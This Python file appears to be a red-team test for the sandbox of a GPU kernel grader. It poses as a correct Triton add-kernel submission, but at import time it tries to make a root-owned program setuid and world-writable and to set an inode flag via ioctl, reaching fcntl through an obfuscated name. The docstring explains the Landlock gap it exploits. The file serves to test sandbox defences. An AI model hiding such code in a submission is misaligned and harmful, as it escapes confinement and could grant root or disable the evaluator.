"""Red team 5 #11: a correct candidate that changes the mode of files of the judge's user.

Landlock confines writes, not metadata: ``chmod`` (and ``chown`` within the caller's groups,
extended attributes, times) are not Landlock rights. A file's owner may change its mode without any
capability, the set-user-ID bit included, so a runner that keeps the judge's user (uid 0 without
capabilities: every GPU runner; every runner of a judge that is not root) may chmod every file of
that user: make a root-owned program set-user-ID (any local user then runs it as root), or take
every permission off ``/``, ``/tmp``, the virtual environment's ``python`` (no judge starts again).
Inode flags are the owner's too, and set on a descriptor opened for reading (``chattr +S``: every
write to the file synchronous; on a directory, ``+D``, every change to it). The test makes
``/tmp/redteam5-judges-program`` (root's, 0755) to stand for them; the candidate tries to make it
set-user-ID, then world-writable, then synchronous (``ioctl(FS_IOC_SETFLAGS)``, ``fcntl`` through a
module that holds it)."""

import io
import os
import struct

import filelock._unix as unix_lock
import torch
import torch.nn as nn
import triton
import triton.language as tl

TARGET = "/tmp/redteam5-judges-program"
FS_IOC_GETFLAGS, FS_IOC_SETFLAGS, FS_SYNC_FL = 0x80086601, 0x40086602, 0x8
control = getattr(unix_lock, "fc" + "ntl")


def change(mode):
    try:
        os.chmod(TARGET, mode)
        print(f"CHMOD {oct(mode)} -> {oct(os.stat(TARGET).st_mode)}")
    except OSError as exc:
        print(f"REFUSED {oct(mode)}: {exc}")


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


def synchronous():
    try:
        held = io.FileIO(TARGET, "r")  # reading: what Landlock leaves alone
        flags = struct.unpack("l", control.ioctl(held.fileno(), FS_IOC_GETFLAGS, bytes(8)))[0]
        control.ioctl(held.fileno(), FS_IOC_SETFLAGS, struct.pack("l", flags | FS_SYNC_FL))
        print(f"CHATTR {hex(flags)} -> {hex(flags | FS_SYNC_FL)}")
    except OSError as exc:
        print(f"REFUSED chattr: {exc}")


if os.path.exists(TARGET):
    change(0o4755)
    change(0o777)
    synchronous()


class ModelNew(nn.Module):
    def forward(self, a, b):
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
        return out
